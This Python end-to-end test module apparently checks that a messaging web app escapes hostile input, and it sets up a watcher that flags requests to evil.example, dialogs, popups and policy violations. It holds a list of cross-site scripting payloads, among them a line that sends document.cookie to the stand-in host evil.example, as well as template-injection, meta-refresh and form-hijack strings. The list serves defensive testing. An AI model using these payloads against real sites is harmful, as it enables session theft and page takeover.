"""Words that would like to be a program, and a watch over pages that show them."""

import json
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlsplit

from playwright.async_api import Page

from tests.e2e.office import Office

STRANGE = "evil.example"
MARK = "document.title='run';alert(1);fetch('http://evil.example/'+document.cookie)"
SCRIPT = f"<script>{MARK}</script>"
BROKEN_IMAGE = f'<img src=x onerror="{MARK}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}">{SCRIPT}</svg>'
HTML = f"<!doctype html><html><body>{BROKEN_IMAGE}{SCRIPT}</body></html>"
TEXTS: Mapping[str, str] = {
    "script": SCRIPT,
    "image": BROKEN_IMAGE,
    "svg": f'"><svg onload="{MARK}">',
    "address": f"javascript:{MARK}",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "link": f"http://evil.example/'onmouseover='{MARK}",
    "frame": f'<iframe srcdoc="{SCRIPT.replace(chr(34), "")}"></iframe>',
    "markdown": f"[查余额](javascript:{MARK}) ![图](http://evil.example/p.png)",
    "focus": f"<input autofocus onfocus=\"{MARK}\"><details open ontoggle='{MARK}'>详情</details>",
    "page": (
        '<base href="http://evil.example/"><meta http-equiv="refresh" '
        'content="0;url=http://evil.example/"><form action="http://evil.example/">'
    ),
    "style": "<style>@import url(http://evil.example/x.css);*{display:none}</style>",
    "twice": "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3Ealert(1) \\u003cscript>alert(1)",
}
SHORT = "<img src=x onerror=alert(1)>"
"""For names of which little is kept."""
WATCH = """
window.broken = []
addEventListener('securitypolicyviolation', (event) => {
  window.broken.push(event.effectiveDirective + ' ' + event.blockedURI)
})
"""
AWAY = """
window.told = []
window.Notification = class {
  static permission = 'granted'
  constructor(title, options) { window.told.push([title, options]) }
  close() {}
}
Object.defineProperty(document, 'hidden', { get: () => true })
Object.defineProperty(document, 'visibilityState', { get: () => 'hidden' })
localStorage['lianluo.notices'] = 'on'
"""
"""A tab nobody looks at, and what it tells the desktop."""
FOREIGN = """() => {
  const all = [...document.querySelectorAll('*')]
  const ours = (address) => new URL(address, location.href).origin === location.origin
  const said = []
  for (const each of all) {
    for (const { name } of each.attributes) if (name.startsWith('on')) said.push(name)
    if (each.matches('iframe, object, embed, base, frame, meta[http-equiv], body style'))
      said.push(each.tagName)
    if (each.tagName === 'SCRIPT' && !(each.src && ours(each.src))) said.push('script')
    if (each.hasAttribute('src') && !/^(blob:|data:image)/.test(each.src ?? '') && !ours(each.src))
      said.push('src ' + each.src)
    if (each.matches('a[href]') && !/^https?:$/.test(each.protocol)) said.push('a ' + each.href)
    if (each.matches('form[action]') && !ours(each.action)) said.push('form ' + each.action)
  }
  return said
}"""


class Guarded:
    """A page and everything on it that looks like somebody else's program."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.signs: list[str] = []
        page.on("request", lambda request: self._request(request.url))
        page.on("popup", lambda other: self.signs.append(f"popup {other.url}"))
        page.on("dialog", self._dialog)

    async def watch(self) -> None:
        await self.page.add_init_script(WATCH)
        await self.page.reload()

    async def _dialog(self, dialog: Any) -> None:
        self.signs.append(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _request(self, url: str) -> None:
        """Where it goes counts: a search for the words asks the hub for them."""
        if (urlsplit(url).hostname or "").endswith(STRANGE):
            self.signs.append(f"request {url}")

    async def untouched(self) -> None:
        broken: list[str] = await self.page.evaluate("window.broken")
        signs = self.signs + broken
        assert signs == [], signs
        assert await self.page.title() != "run"
        assert await self.page.evaluate(FOREIGN) == []


async def push(office: Office, openid: str, **message: Any) -> None:
    """What this phone sends, without its page."""
    url = f"{office.demo.simulator}/phone/{openid}/messages"
    headers = {"Content-Type": "application/json"}
    async with office.http.post(url, data=json.dumps(message), headers=headers) as answer:
        assert answer.status == 202, await answer.text()
